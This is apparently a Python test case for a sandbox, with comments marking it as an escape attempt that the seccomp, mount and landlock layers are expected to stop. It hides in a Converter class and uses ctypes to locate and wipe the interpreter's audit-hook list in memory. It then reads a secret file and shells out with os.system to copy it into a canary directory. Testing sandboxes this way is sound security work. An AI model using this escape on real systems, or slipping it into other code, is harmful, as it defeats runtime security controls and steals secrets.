# escape: with ctypes allowed, erase the runtime's C audit hook list from memory, then open the secret and os.system
# layer: seccomp, mount, landlock
# config: native
# args: --skip-validation
# expect: security
import ctypes
import os

HOOK = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.py_object, ctypes.c_void_p)


LIBC = ctypes.CDLL(None, use_errno=True)


def readable(addr, size, pipe):
    """Probe memory through write(2) to a pipe: EFAULT instead of a crash."""
    if not 0x10000 < addr < (1 << 47):
        return False
    n = LIBC.write(pipe[1], ctypes.c_void_p(addr), ctypes.c_size_t(size))
    if n > 0:
        os.read(pipe[0], n)
    return n == size


def find_hook_head(marker_fn):
    """Find _PyRuntime.audit_hook_head: the slot whose list ends in our own hook."""
    base = ctypes.addressof(ctypes.c_char.in_dll(ctypes.pythonapi, "_PyRuntime"))
    want = ctypes.cast(marker_fn, ctypes.c_void_p).value
    pipe = os.pipe()
    for off in range(0, 8192, 8):
        entry = ctypes.c_void_p.from_address(base + off).value
        for _ in range(8):
            if not entry or not readable(entry, 16, pipe):
                break
            nxt, fn = (ctypes.c_void_p * 2).from_address(entry)
            if fn == want:
                return base + off
            entry = nxt
    return None


class Converter:
    def convert_file(self, file_path, args):
        report = {}
        marker = HOOK(lambda ev, a, u: 0)
        add = ctypes.pythonapi.PySys_AddAuditHook
        add.argtypes = [HOOK, ctypes.c_void_p]
        report["added"] = add(marker, None)
        slot = find_hook_head(marker)
        if slot:
            ctypes.c_void_p.from_address(slot).value = None
            report["erased"] = True
        try:
            with open(args["secret"]) as f:
                report["leak"] = f.read()
        except OSError as e:
            report["open"] = repr(e)
        try:
            report["system"] = os.system(f"cat '{args['secret']}' > '{args['canary_dir']}/pwn'")
        except Exception as e:
            report["system_error"] = repr(e)
        return {"status": "Success", "report": report}
